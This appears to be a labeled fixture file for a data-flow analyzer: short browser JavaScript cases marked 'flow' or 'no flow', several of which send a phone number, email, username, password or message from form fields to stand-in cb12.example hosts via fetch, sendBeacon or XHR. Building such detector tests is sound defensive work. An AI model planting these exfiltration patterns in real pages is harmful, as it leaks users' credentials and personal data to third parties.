//# custom-event-with-detail
// flow: phone > ced.cb12.example via fetch
document.addEventListener('lead:ready', (e) => {
  fetch('https://ced.cb12.example/lead', { method: 'POST', body: JSON.stringify(e.detail) });
});
document.querySelector('#call').addEventListener('click', () => {
  document.dispatchEvent(new CustomEvent('lead:ready', { detail: { tel: document.querySelector('input[type=tel]').value } }));
});

//# near-custom-event-of-another-name
// no flow
// why: what is dispatched is heard by the counter only
document.addEventListener('lead:ready', (e) => {
  fetch('https://nce.cb12.example/lead', { method: 'POST', body: JSON.stringify(e.detail) });
});
document.addEventListener('lead:typed', (e) => { document.querySelector('#n').textContent = e.detail.tel.length; });
document.querySelector('input[type=tel]').addEventListener('input', (e) => {
  document.dispatchEvent(new CustomEvent('lead:typed', { detail: { tel: e.target.value } }));
});

//# delegated-by-closest
// flow: email > dcl.cb12.example via beacon
// guard: event focusout
document.body.addEventListener('focusout', (e) => {
  const el = e.target.closest('input[name="email"]');
  if (!el) return;
  navigator.sendBeacon('https://dcl.cb12.example/f', el.value);
});

//# error-first-callback
// flow: username > efc.cb12.example via xhr
function readUser(cb) {
  var el = document.getElementById('username');
  if (!el) return cb(new Error('no field'));
  cb(null, el.value);
}
readUser(function (err, name) {
  if (err) return;
  var x = new XMLHttpRequest();
  x.open('POST', 'https://efc.cb12.example/u');
  x.send(name);
});

//# near-error-first-only-the-error
// no flow
function readUser(cb) {
  var el = document.getElementById('username');
  if (!el) return cb(new Error('no field'));
  cb(null, el.value);
}
readUser(function (err, name) {
  if (err) navigator.sendBeacon('https://nef.cb12.example/e', err.message);
  else document.querySelector('#hello').textContent = name;
});

//# own-emitter
// flow: password > oem.cb12.example via fetch
// why: the other listener gets the path only
class Emitter {
  constructor() { this.map = {}; }
  on(name, fn) { (this.map[name] ||= []).push(fn); return this; }
  emit(name, ...args) { (this.map[name] || []).forEach((fn) => fn(...args)); }
}
const bus = new Emitter();
bus.on('login', (u) => fetch('https://oem.cb12.example/l', { method: 'POST', body: u.password }));
bus.on('view', (p) => fetch('https://oev.cb12.example/v?p=' + p));
bus.emit('login', { password: document.querySelector('input[type=password]').value });
bus.emit('view', '/home');

//# near-own-emitter-saved-not-draft
// no flow
// why: the draft is heard by the page, the listener that sends gets a constant
const hub = {
  all: new Map(),
  on(t, f) { const l = this.all.get(t); if (l) l.push(f); else this.all.set(t, [f]); },
  emit(t, d) { (this.all.get(t) || []).slice().map((f) => f(d)); },
};
hub.on('saved', (d) => navigator.sendBeacon('https://oes.cb12.example/s', d));
hub.on('draft', (d) => { document.querySelector('#preview').textContent = d; });
document.querySelector('textarea[name=message]').oninput = (e) => hub.emit('draft', e.target.value);
document.querySelector('#save').onclick = () => hub.emit('saved', 'ok');

//# events-table-of-a-view
// flow: message > etv.cb12.example via fetch
const View = {
  events: { 'click #send': 'submit', 'change select': 'noop' },
  submit() { fetch('https://etv.cb12.example/m', { method: 'POST', body: document.querySelector('textarea[name=message]').value }); },
  noop() {},
  delegate() {
    for (const key of Object.keys(this.events)) {
      const [type, selector] = key.split(' ');
      document.querySelector(selector).addEventListener(type, this[this.events[key]].bind(this));
    }
  },
};
View.delegate();
